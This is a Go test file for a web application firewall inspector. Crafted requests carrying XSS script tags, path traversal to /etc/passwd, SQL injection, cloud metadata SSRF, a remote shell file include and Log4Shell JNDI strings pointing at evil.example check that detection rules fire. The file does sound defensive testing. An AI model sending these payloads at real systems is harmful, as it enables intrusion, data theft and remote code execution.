package main

import (
	"strings"
	"testing"
)

var shared = inspectorOf(commonRules, badInputRules, databaseRules, linuxRules, unixRules, phpRules)

func inspectorOf(groups ...string) *inspector {
	wanted := map[string]bool{}
	for _, group := range groups {
		wanted[group] = true
	}
	one, err := newInspector(wanted)
	if err != nil {
		panic(err)
	}
	return one
}

func get(path, query string, headers ...header) request {
	all := append([]header{{"host", "127.0.0.1:20080"}, {"user-agent", "curl/8"}, {"accept", "*/*"}}, headers...)
	return request{source: "10.0.0.9", method: "GET", path: path, query: query, version: "1.1", headers: all}
}

func post(body string) request {
	one := get("/predict", "", header{"content-type", "application/json"})
	one.method, one.body, one.bodySize = "POST", body, uint64(len(body))
	return one
}

func TestRules(t *testing.T) {
	nessus := get("/", "")
	nessus.headers[1].value = "Nessus"
	bare := get("/", "")
	bare.headers = bare.headers[:1]
	propfind := get("/", "")
	propfind.method = "PROPFIND"
	for _, one := range []struct {
		name    string
		request request
		rule    string
	}{
		{"script in the query", get("/", "q=%3Cscript%3Ealert(1)%3C/script%3E"), "CrossSiteScripting_QUERYARGUMENTS"},
		{"script in an argument's name", get("/", "%3Cscript%3Ealert(1)%3C/script%3E=1"), "CrossSiteScripting_QUERYARGUMENTS"},
		{"script in the path", get("/%3Cscript%3Ealert(1)%3C/script%3E", ""), "CrossSiteScripting_URIPATH"},
		{"script in a cookie", get("/", "", header{"cookie", "a=<script>alert(1)</script>"}), "CrossSiteScripting_COOKIE"},
		{"traversal in the query", get("/", "file=../../../../etc/passwd"), "GenericLFI_QUERYARGUMENTS"},
		{"traversal in the path", get("/static/..%2f..%2f..%2fetc/passwd", ""), "GenericLFI_URIPATH"},
		{"traversal in the path, with a query", get("/static/../../etc/passwd", "a=1"), "GenericLFI_URIPATH"},
		{"a remote file", get("/", "page=http://10.1.2.3/shell.txt"), "GenericRFI_QUERYARGUMENTS"},
		{"the metadata service", get("/", "url=http://169.254.169.254/latest/meta-data/"), "EC2MetaDataSSRF_QUERYARGUMENTS"},
		{"JNDI in a header", get("/", "", header{"x-api-version", "${jndi:ldap://evil.example/a}"}), "Log4JRCE_HEADER"},
		{"JNDI in the query", get("/", "q=${jndi:ldap://evil.example/a}"), "Log4JRCE_QUERYSTRING"},
		{"a configuration file", get("/backup/site.ini", ""), "RestrictedExtensions_URIPATH"},
		{"a hidden file", get("/.git/config", ""), "ExploitablePaths_URIPATH"},
		{"a scanner", nessus, "UserAgent_BadBots_HEADER"},
		{"no user agent", bare, "NoUserAgent_HEADER"},
		{"a method", propfind, "PROPFIND_METHOD"},
		{"a long query", get("/", "q="+strings.Repeat("a", 2048)), "SizeRestrictions_QUERYSTRING"},
		{"SQL in the query", get("/", "id=1'%20OR%20'1'='1"), "SQLi_QUERYARGUMENTS"},
		{"SQL in another query", get("/", "id=1%20UNION%20SELECT%20name,password%20FROM%20users--"), "SQLi_QUERYARGUMENTS"},
		{"SQL in a cookie", get("/", "", header{"cookie", "session=1' OR '1'='1' --"}), "SQLi_COOKIE"},
		{"SQL in the path", get("/items/1'%20OR%20'1'='1", ""), "SQLi_URIPATH"},
		{"SQL in the body", post(`{"text":"' UNION SELECT password FROM users --"}`), "SQLi_BODY"},
		{"script in the body", post(`{"text":"<script>alert(1)</script>"}`), "CrossSiteScripting_BODY"},
		{"the metadata service in the body", post(`{"url":"http://169.254.169.254/latest/"}`), "EC2MetaDataSSRF_BODY"},
		{"a large body", post(strings.Repeat("1", 8193)), "SizeRestrictions_BODY"},
	} {
		t.Run(one.name, func(t *testing.T) {
			found := shared.matches(one.request)
			for name := range found {
				if name.rule == one.rule {
					return
				}
			}
			t.Fatalf("%s is not in %v", one.rule, found)
		})
	}
}

func TestHarmlessRequests(t *testing.T) {
	for name, one := range map[string]request{
		"a page":             get("/", ""),
		"a query":            get("/predict", "model=small&temperature=0.2&q=how+are+you"),
		"a prediction":       post(`{"inputs":[[5.1,3.5,1.4,0.2]],"text":"the quick brown fox"}`),
		"the health check":   get("/healthz", ""),
		"a key":              get("/predict", "", header{"x-api-key", "k-0123456789abcdef0123456789"}),
		"a bearer":           get("/predict", "", header{"authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln"}),
		"a path":             get("/v2/models/all-MiniLM-L6-v2/versions/1/infer", ""),
		"a question":         get("/predict", "q=select+the+best+union+of+two+sets+and+order+by+name"),
		"a session":          get("/", "", header{"cookie", "session=eyJhbGciOiJIUzI1NiJ9.e30.c2ln; theme=dark"}),
		"an address as host": get("/docs", "", header{"x-forwarded-for", "10.0.0.1"}),
	} {
		t.Run(name, func(t *testing.T) {
			if found := shared.matches(one); len(found) > 0 {
				t.Fatalf("matches %v", found)
			}
		})
	}
}

func TestWhatABodyHoldsIsFoundInTheBodyAlone(t *testing.T) {
	for name := range shared.matches(post(`{"text":"<script>alert(1)</script> ' OR 1=1 -- ../../etc/passwd ${jndi:ldap://x/a}"}`)) {
		if !strings.HasSuffix(name.rule, "_BODY") {
			t.Errorf("%s", name.rule)
		}
	}
}

func BenchmarkGet(b *testing.B) {
	inspector := inspectorOf(commonRules, badInputRules)
	one := get("/predict", "model=small&q=how+are+you")
	for b.Loop() {
		inspector.matches(one)
	}
}

func BenchmarkBody(b *testing.B) {
	inspector := inspectorOf(commonRules, badInputRules)
	one := post(`{"inputs":[` + strings.Repeat("0.123456,", 900) + `0]}`)
	for b.Loop() {
		inspector.matches(one)
	}
}

func BenchmarkRules(b *testing.B) {
	for b.Loop() {
		inspectorOf(commonRules, badInputRules)
	}
}
